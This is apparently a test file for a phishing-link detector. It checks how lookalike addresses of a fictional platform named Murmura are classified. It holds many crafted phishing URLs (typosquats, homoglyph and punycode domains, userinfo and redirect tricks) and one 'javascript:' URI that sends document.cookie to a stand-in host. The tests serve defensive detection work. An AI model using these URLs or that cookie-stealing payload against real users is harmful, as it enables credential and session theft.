import pytest

from tutela.links import inspect
from tutela.links.feeds import Feeds, read_feed
from tutela.settings import App, Brand, Platform

PLATFORM = Platform(
    name="Murmura",
    domains=("murmura.com", "murmura.app"),
    official_accounts=("@murmura", "@murmura_support"),
    apps=(App(id="com.murmura.app", stores=("https://apps.apple.com/app/murmura/id1590000000",)),),
    brands=(Brand(name="Norvik Bank", domains=("norvikbank.example",)),),
    allow_links=("partner.example/murmura",),
)
FAKE = {"link.lookalike", "link.fake_platform", "link.store_foreign_app"}


def names(text: str, part: str = "links/0", platform: Platform = PLATFORM) -> set[str]:
    return {signal.name for signal in inspect(text, part=part, platform=platform) if signal.confidence >= 0.5}


@pytest.mark.parametrize(
    "link",
    [
        "https://murmura.com/login",
        "https://press.murmura.com/2031/05/report",
        "https://MURMURA.COM/About",
        "https://murmura.app",
        "https://play.google.com/store/apps/details?id=com.murmura.app",
        "https://apps.apple.com/app/murmura/id1590000000",
    ],
)
def test_the_platforms_own_addresses_are_official(link: str) -> None:
    assert names(link) == {"link.official"}


@pytest.mark.parametrize(
    "link",
    [
        "https://en.wikipedia.org/wiki/Heart_murmur",
        "https://www.youtube.com/watch?v=a1b2c3d4e5f&list=murmur",
        "https://docs.python.org/3/library/urllib.parse.html",
        "https://www.xn--mnchen-3ya.de/",
        "https://papers.example/murmura-feed-study.pdf",
        "http://192.168.1.1/login",
        "http://127.0.0.1:8000/account/verify",
        "http://203.0.113.9:25565/",
        "https://partner.example/murmura/login",
        "https://accounts.google.com/signin/v2/recoveryidentifier",
        "https://github.com/murmura/login-button",
        "https://murmansk.example/login",
        "https://web.archive.org/web/2030/https://murmura-login.com/",
        "mailto:help@murmura.com",
        "ftp://ftp.gnu.org/gnu/hello/hello-2.12.tar.gz",
    ],
)
def test_ordinary_addresses_are_no_fakes(link: str) -> None:
    assert not names(link) & (FAKE | {"link.phishing", "link.brand_lookalike", "link.userinfo_trick"})


@pytest.mark.parametrize(
    "link",
    [
        "https://www.mrumura.com/signin",
        "https://murnura.com",
        "https://rnurmura.com/x",
        "https://mur-mura.com/",
        "https://mur.mura.com/",
        "https://murmuraa.com/",
        "https://ṁurmura.com/signin",
        "https://mսrmura.com/verify",
        "https://xn--murmur-10a.app/",
        "https://murmura.support/signin",
        "https://murmura-verify.top/",
        "https://murmuralogin.net/",
        "https://login-murmura.pages.dev/",
        "https://murmura2fa.com/",
        "https://accounts.murmura.com.signin-portal.top/login",
        "https://murmura.app:443@login-node.xyz/x",
        "https://account-check.icu/www.murmura.com/signin",
        "http://3325256727/murmura.com/signin",
        "https://murmura.com/out?to=//murmura-session.icu/login",
        "https://murmura.com/out?u=https%3A%2F%2Fmurmura-verify.top%2Flogin",
        "https://a.example/r?u=aHR0cHM6Ly9tdXJtdXJhLXZlcmlmeS50b3AvbG9naW4=",
        "https://play.google.com/store/apps/details?id=com.murmura.plus",
        "https://sites.google.com/view/murmura-verify",
        "https://murmura--verify-com.translate.goog/x",
    ],
)
def test_fakes_of_the_platform_are_found(link: str) -> None:
    found = names(link)
    assert found & FAKE
    assert "link.official" not in found


def test_brands_of_the_operator_are_told_apart_from_the_platform() -> None:
    assert "link.brand_lookalike" in names("https://norvik-bank-login.com/")
    assert not names("https://norvik-bank-login.com/") & FAKE
    assert not names("https://www.norvikbank.example/login") & {"link.brand_lookalike"}


@pytest.mark.parametrize(
    ("link", "name"),
    [
        ("javascript:location='//x.example/?c='+document.cookie", "link.script_uri"),
        ("data:text/html;base64,PHNjcmlwdD4=", "link.data_uri"),
        ("http://203.0.113.9/a", "link.raw_ip"),
        ("https://bit.ly/3xYzAbC", "link.shortener"),
        ("https://files.example/setup.apk", "link.executable_download"),
        ("https://swiftparceI.com/customs", "link.mixed_letters"),
    ],
)
def test_tricks_of_an_address_are_named(link: str, name: str) -> None:
    assert name in names(link)


def test_a_link_made_harmless_stays_below_the_level_of_action() -> None:
    signals = inspect("Fake page: hxxps://murmura-login[.]com – report it", platform=PLATFORM)
    assert signals
    assert all(signal.confidence < 0.5 and "defanged" in signal.marks for signal in signals)


def test_a_spelled_out_link_is_judged_as_the_link() -> None:
    assert names("go to murmura-login dot com slash verify", part="text") & FAKE


def test_a_sentence_without_a_space_is_no_link_unless_it_looks_like_the_platform() -> None:
    assert names("I was done.so I left", part="text") == set()
    assert names("log in at murrnura.so now", part="text") & FAKE


def test_without_a_profile_nothing_is_a_fake() -> None:
    assert not names("https://murmura-verify.top/", platform=Platform.none()) & FAKE


def test_evidence_shows_no_query_and_no_clickable_address() -> None:
    token = "s3cr3ttoken"
    for signal in inspect(
        f"https://murmura-verify.top/reset/{token}?u={token}#{token}", part="links/0", platform=PLATFORM
    ):
        assert token not in signal.shown_as + signal.says + repr(signal)
        assert "http" not in signal.shown_as
        assert "[.]" in signal.shown_as


def test_a_listed_address_is_told_with_the_list() -> None:
    feed = read_feed(b"https://bad.example/a/login\n", name="mine")
    signals = inspect("https://bad.example/a/login?x=1", part="links/0", platform=PLATFORM, feeds=Feeds(lists=(feed,)))
    assert [signal.name for signal in signals if "list:mine" in signal.marks] == ["link.listed"]


def test_reasons_name_the_target_in_words() -> None:
    (signal,) = inspect("https://mrumura.com/", part="links/0", platform=PLATFORM)
    assert signal.says == "two letters exchanged against Murmura"
    assert {"target:Murmura", "rule:slip"} <= signal.marks


def test_redirects_that_nest_end() -> None:
    link = "https://a.example/?u=" * 400 + "https://murmura-verify.top/"
    assert inspect(link, part="links/0", platform=PLATFORM) is not None


def test_every_signal_is_in_the_rooms_list() -> None:
    import re
    import tomllib
    from importlib.resources import files

    room = files("tutela.links")
    listed = {row["name"] for row in tomllib.loads((room / "signals.toml").read_text(encoding="utf-8"))["signal"]}
    source = "".join((room / name).read_text(encoding="utf-8") for name in ("inspect.py", "names.py"))
    assert set(re.findall(r'"((?:link|name)\.[a-z_]+)"', source)) == listed
